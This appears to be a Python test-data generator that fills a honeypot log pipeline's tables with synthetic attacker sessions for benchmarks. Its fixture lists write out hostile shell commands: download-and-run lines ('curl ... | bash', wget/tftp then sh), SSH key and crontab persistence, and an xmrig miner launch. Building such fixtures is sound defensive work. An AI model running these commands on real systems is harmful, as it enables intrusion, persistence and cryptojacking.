"""A synthetic fleet's sessions for the digest's benchmarks: background, campaigns seeded into it, floods on top.

Rows go straight into `log_events` and `session_parts`, as parsing would have left them; nothing is parsed here. What is
drawn comes from the seed alone.
"""

import json
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from itertools import count
from random import Random

from sqlalchemy import Engine

from rustbucket_pipeline.model.window import FOUR_HOURS, HOUR, Window, windows_between
from rustbucket_pipeline.storage.builds import Build, record_builds
from rustbucket_pipeline.storage.event_days import ensure_event_partition
from rustbucket_pipeline.storage.postgres import copy_rows


def _listed(between: str, words: str) -> list[str]:
    return words.split(between)


WINDOW = Window(datetime(2026, 3, 9, 4, tzinfo=UTC), FOUR_HOURS)
FLEET = [f"BKT{number}" for number in range(1, 41)]
KNOWN_SOURCES = [f"198.51.{a}.{b}" for a in range(20) for b in range(1, 201)]
KNOWN_HOSTS = [f"203.0.113.{number}" for number in range(1, 61)]
PASSWORDS = [f"{word}{number}" for word in ("root", "admin", "pass", "qwerty", "x", "test") for number in range(500)]
PATHS = [
    f"/{a}/{b}" for a in ("admin", "cgi-bin", "api", "vendor", "static") for b in ("login", "status", "info", "x.php")
]
ORDINARY = _listed(
    "|",
    "uname -a|whoami|id|nproc|free -m|uptime|w|last|df -h|ps aux|ls -la|ls /tmp|ls /var/log|cat /etc/passwd|pwd|"
    "cat /proc/cpuinfo|cat /proc/mounts|ifconfig|ip addr|netstat -an|env|history|hostname|lscpu|lspci|mount|dmesg|"
    "cat /etc/issue|which python|which perl|cat /proc/version|echo ok|cd /tmp|cd /var|cd /root|top -n 1|arp -a|route|"
    "cat /etc/hosts|cat /etc/fstab|ls /home|ls /opt|date|groups|iptables -L|ss -t|lsof|crontab -l|umask|ulimit -a",
)
SEVERE = (
    "echo ssh-rsa AAAAB3 x >> ~/.ssh/authorized_keys",
    "(crontab -l; echo run) | crontab -",
    "chattr -ia .ssh/authorized_keys; cp k .ssh/authorized_keys",
    "nohup ./xmrig --donate-level 1 &",
    "/bin/busybox DEKGC",
    "echo x > /etc/cron.d/y",
    "ps aux | grep kinsing",
    ">/tmp/.ptmx && cd /tmp",
)
FETCHES = (
    "cd /tmp; wget http://{}/x.sh; chmod 777 x.sh; ./x.sh",
    "curl -s http://{}/a | bash",
    "tftp -g -r mips {}; sh mips",
    "wget -q -O - http://{}/i | sh; history -c",
    "curl -O http://{}/b; chmod +x b; ./b",
    "ftpget -v {} c c; sh c",
)


@dataclass(frozen=True, slots=True)
class Session:
    """What one connection did. `at`: seconds since its window's start."""

    rustbucket: str
    source: str
    at: float
    commands: tuple[str, ...] = ()
    paths: tuple[str, ...] = ()
    logins: tuple[tuple[str, str], ...] = ()

    @property
    def events(self) -> int:
        """Rows of it."""
        return 1 + len(self.commands) + len(self.paths) + len(self.logins)


@dataclass(frozen=True, slots=True)
class Campaign:
    """Seeded sessions, and what shows them: an indicator of their own, or else their lines."""

    sessions: tuple[Session, ...]
    indicator: str | None


def background(random: Random, events: int) -> Iterator[Session]:
    """What every window holds: guessing, known scripts with known hosts, web scans."""
    told = 0
    while told < events:
        session = _usual(random)
        told += session.events
        yield session


def novelties(random: Random, many: int) -> Iterator[Session]:
    """Sessions that nobody did before, and harmless: ordinary commands in a new order."""
    for _ in range(many):
        commands = random.sample(ORDINARY, random.randint(2, 5))
        yield _session(random, random.choice(KNOWN_SOURCES), commands)


def campaigns(random: Random, kind: str, many: int = 50, single: int = 20) -> list[Campaign]:
    """Campaigns of a kind: `indicator`, `severe` (no indicator of its own) or `ordinary`; some of a single session."""
    return [_campaign(random, kind, number, 1 if number < single else random.randint(2, 12)) for number in range(many)]


def flood(random: Random, kind: str, sessions: int = 50_000) -> Iterator[Session]:
    """`junk`: words without sense; `severe`: fetches from as many hosts. From 20,000 sources nobody saw before."""
    for _ in range(sessions):
        source = f"{random.randint(11, 90)}.{random.randint(0, 255)}.{random.randint(0, 15)}.{random.randint(1, 254)}"
        if kind == "junk":
            words = [f"{random.getrandbits(40):x}z {random.getrandbits(20):x}q" for _ in range(random.randint(1, 3))]
            yield _session(random, source, words)
        else:
            host = f"{random.randint(11, 90)}.{random.randint(0, 255)}.{random.randint(0, 255)}.7"
            yield _session(random, source, [f"cd /var/run; wget http://{host}/z; sh z"])


def load(engine: Engine, window: Window, sessions: Iterable[Session], numbers: Iterator[int]) -> int:
    """Write the sessions' rows and parts, and note the window's hours as built; how many rows."""
    parts: list[tuple[object, ...]] = []
    with engine.begin() as connection:
        ensure_event_partition(connection, window.start.date())
        rows = copy_rows(connection, "log_events", _EVENT, _rows(window, sessions, numbers, parts.append))
        copy_rows(connection, "session_parts", _PART, parts)
        hours = windows_between(window.start, window.end, HOUR)
        record_builds(connection, [Build("parsed_logs", one, "i", f"{rows}", "1", None) for one in hours], window.end)
    return rows


def load_week(engine: Engine, random: Random, events: int, numbers: Iterator[int]) -> None:
    """One window a day of the seven before, with the background alone."""
    for day in range(1, 8):
        past = Window(WINDOW.start - timedelta(days=day), FOUR_HOURS)
        load(engine, past, background(random, events), numbers)


def numbering() -> Iterator[int]:
    """Numbers for rows."""
    return count(1)


def _usual(random: Random) -> Session:
    source, chance = random.choice(KNOWN_SOURCES), random.random()
    if chance < 0.55:
        logins = tuple(("root", random.choice(PASSWORDS)) for _ in range(random.randint(3, 20)))
        return _session(random, source, (), logins=logins)
    if chance < 0.75:
        script = random.choice(FETCHES).format(random.choice(KNOWN_HOSTS))
        return _session(random, source, ("uname -a", script)[random.randint(0, 1) :])
    if chance < 0.8:
        return _session(random, source, ORDINARY[: random.randint(1, 4)])
    first = random.randrange(len(PATHS))
    return _session(random, source, (), paths=PATHS[first : first + 4])


def _campaign(random: Random, kind: str, number: int, sessions: int) -> Campaign:
    host, script = None, random.sample(ORDINARY, random.randint(4, 7))
    if kind == "indicator":
        host = f"91.{random.randint(0, 255)}.{random.randint(0, 255)}.{number + 1}"
        script[random.randrange(len(script))] = random.choice(FETCHES).format(host)
    elif kind == "severe":
        script[random.randrange(len(script))] = random.choice(SEVERE)
    sources = random.sample(KNOWN_SOURCES, min(sessions, 3))
    return Campaign(tuple(_session(random, random.choice(sources), script) for _ in range(sessions)), host)


def _session(
    random: Random,
    source: str,
    commands: Sequence[str],
    paths: Sequence[str] = (),
    logins: tuple[tuple[str, str], ...] = (),
) -> Session:
    at = random.uniform(0, FOUR_HOURS.total_seconds() - 120)
    return Session(random.choice(FLEET), source, at, tuple(commands), tuple(paths), logins)


_EVENT = _listed(
    " ",
    "event_id rustbucket_id event_ts dialect event_type protocol src_ip username password command http_method "
    "http_path counted message segment_id byte_offset byte_length parser_version",
)
_PART = _listed(
    " ",
    "hour rustbucket_id number connection_key keyed protocol src_ip started_at ended_at opens_before ends_after closed "
    "confidence events events_by_order logins commands requests mails credentials command_lines request_lines "
    "event_ids first_event_id last_event_id candidates",
)


def _rows(
    window: Window, sessions: Iterable[Session], numbers: Iterator[int], part: Callable[[tuple[object, ...]], None]
) -> Iterator[tuple[object, ...]]:
    for session in sessions:
        protocol = "http" if session.paths else "ssh"
        started = window.start + timedelta(seconds=session.at)
        acts: list[tuple[object, ...]] = [("connection", None, None, None, None, None)]
        acts += [("authentication", name, word, None, None, None) for name, word in session.logins]
        acts += [("command", None, None, command, None, None) for command in session.commands]
        acts += [("request", None, None, None, "GET", path) for path in session.paths]
        ids: list[str] = []
        for place, act in enumerate(acts):
            at = started + timedelta(seconds=place)
            ids.append(f"{next(numbers):016x}")
            source = None if act[0] == "command" else session.source
            yield (
                ids[-1],
                session.rustbucket,
                at,
                "json",
                act[0],
                protocol,
                source,
                *act[1:],
                True,
                act[0],
                1,
                0,
                1,
                1,
            )
        ended = started + timedelta(seconds=len(acts) - 1)
        hour = started.replace(minute=0, second=0, microsecond=0)
        lines = json.dumps(session.commands[:50]), json.dumps([f"GET {path}" for path in session.paths[:50]])
        counts = len(session.logins), len(session.commands), len(session.paths), 0
        own = (
            hour,
            session.rustbucket,
            int(ids[0], 16) % 2**31,
            ids[0],
            True,
            protocol,
            session.source,
            started,
            ended,
        )
        listed = json.dumps(session.logins[:20]), *lines, ids[:50], ids[0], ids[-1], list[str]()
        part((*own, False, False, True, "exact", len(acts), 0, *counts, *listed))
